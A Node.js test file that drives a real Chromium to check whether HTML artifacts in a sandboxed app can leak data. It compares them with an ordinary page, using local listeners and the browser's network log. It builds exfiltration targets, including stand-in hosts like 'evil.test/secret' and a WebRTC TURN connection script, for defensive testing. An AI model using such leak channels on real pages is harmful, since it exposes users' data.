#!/usr/bin/env node
// Every known way out of a page, tried from inside an artifact in a real Chromium: listeners on this machine and the browser's own
// log of look-ups and connections tell what got out. The same code in an ordinary page shows that they would.
'use strict';

const assert = require('node:assert');
const fs = require('node:fs');
const http = require('node:http');
const net = require('node:net');
const os = require('node:os');
const path = require('node:path');
const {test, cleanup, run} = require('../lib/runner.js');
const {start} = require('../lib/quern.js');
const {launchLogged, signIn} = require('../lib/browser.js');
const artifacts = require('../lib/artifacts.js');
const ESCAPES = require('../lib/escapes.js').filter(([name]) => !process.env.QUERN_ESCAPE || name.includes(process.env.QUERN_ESCAPE));

const AT_ONCE = 16, STAY_MS = 1200;
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'quern-escapes-'));
const out = {artifact: new Map(), page: new Map()}; // what was tried -> what got out
const forms = [];
let q, context, page, site, phase;

const slug = (i) => `way-${i}-${phase}`;

// A listener of its own for each way; it answers nothing useful.
function listen(name) {
	return new Promise((resolve) => {
		const server = net.createServer((socket) => {
			note(name, 'connection');
			socket.on('data', (bytes) => note(name, String(bytes).split('\r\n')[0].slice(0, 60)));
			socket.on('error', () => {});
			setTimeout(() => socket.destroy(), 200);
		});
		server.listen(0, '127.0.0.1', () => resolve(server));
	});
}

function note(name, what) {
	const list = out[phase].get(name) ?? [];
	list.push(what);
	out[phase].set(name, list);
}

function script(name, code, port, i) {
	const values = {OUT: `http://127.0.0.1:${port}/secret`, NAME: `http://${slug(i)}.evil.test/secret`, TURN: `turn:127.0.0.1:${port}?transport=tcp`, STUN: `stun:${slug(i)}-stun.evil.test`,
		NESTED: `<script>const pc=new RTCPeerConnection({iceServers:[{urls:"turn:127.0.0.1:${port}?transport=tcp",username:"s",credential:"x"}]});pc.createDataChannel("x");pc.createOffer().then(o=>pc.setLocalDescription(o))</script>`};
	const text = `(async () => { ${Object.entries(values).map(([key, value]) => `const ${key} = ${JSON.stringify(value)};`).join(' ')}
		const html = (text) => document.body.insertAdjacentHTML('beforeend', text);
		try { ${code} } catch (e) { console.debug(${JSON.stringify(name)}, String(e)); } })()`;
	return `<!doctype html><body><script>${text.replaceAll('</script', '<\\/script')}</script>`;
}

// Runs all ways, some at once; each in a frame of its own that put() makes and take() removes.
async function tryAll(put, take) {
	for (let i = 0; i < ESCAPES.length; i += AT_ONCE) {
		const some = ESCAPES.slice(i, i + AT_ONCE), servers = await Promise.all(some.map(([name]) => listen(name)));
		await Promise.all(some.map(([name, code], k) => put(i + k, script(name, code, servers[k].address().port, i + k))));
		await page.waitForTimeout(STAY_MS);
		await take();
		for (const server of servers) server.close();
	}
	await page.waitForTimeout(500);
}

test('start', async () => {
	q = await start({args: []});
	({context, page} = await launchLogged(q, dir));
	await signIn(page, q);
	site = http.createServer((req, res) => res.setHeader('Content-Type', 'text/html').end(forms[Number(req.url.slice(1))] ?? '<!doctype html><body>'));
	await new Promise((resolve) => { site.listen(0, '127.0.0.1', resolve); });
});
cleanup(() => q && q.stop());
cleanup(() => context && context.close());
cleanup(() => fs.rmSync(dir, {recursive: true, force: true}));
cleanup(() => site && site.close());

test('all ways from inside artifacts', async () => {
	phase = 'artifact';
	const seen = [];
	context.on('page', (p) => seen.push(`a window: ${p.url()}`));
	page.on('download', (d) => seen.push(`a download: ${d.url().slice(0, 60)}`));
	page.on('dialog', (d) => { seen.push(`a dialog: ${d.message()}`); d.dismiss(); });
	const address = new URL(`/artifacts/${artifacts.put(q, {type: 'html', code: '<p>here</p>'})}`, q.url).href;
	await page.goto(address);
	await page.evaluate(() => { window.mine = 'here'; localStorage.setItem('secret', 'x'); });
	await tryAll((i, code) => artifacts.mount(page, {type: 'html', code}, {wait: false}), () => artifacts.take(page));
	assert.equal(page.url(), address, 'the page is still there');
	assert.equal(await page.evaluate(() => window.mine), 'here');
	assert.deepEqual(seen, []);
});

test('the same in an ordinary page', async () => {
	phase = 'page';
	const base = `http://127.0.0.1:${site.address().port}/`;
	const pages = [];
	await tryAll(async (i, code) => {
		forms[i] = code;
		const one = await context.newPage();
		one.on('dialog', (d) => d.dismiss().catch(() => {}));
		pages.push(one);
		await one.goto(`${base}${i}`, {waitUntil: 'commit'}).catch(() => {});
	}, async () => {
		for (const one of context.pages()) if (one !== page) await one.close().catch(() => {});
		pages.length = 0;
	});
});

test('what got out', async () => {
	await context.close();
	context = null;
	const log = fs.readFileSync(path.join(dir, 'net.json'), 'utf8');
	const names = new Set(log.match(/way-\d+-(artifact|page)(?=(-stun)?\.evil\.test)/g));
	for (const name of names) {
		const [, i, where] = /way-(\d+)-(\w+)/.exec(name);
		phase = where;
		note(ESCAPES[i][0], 'a name was looked up');
	}
	if (process.env.QUERN_ESCAPE) console.log(out);
	console.log(`# escapes ${out.artifact.size} of ${ESCAPES.length} (in an ordinary page ${out.page.size})`);
	assert.deepEqual(Object.fromEntries(out.artifact), {});
	if (!process.env.QUERN_ESCAPE) assert.ok(out.page.size > 60, `only ${out.page.size} ways work in an ordinary page`);
});

run({seconds: 120});
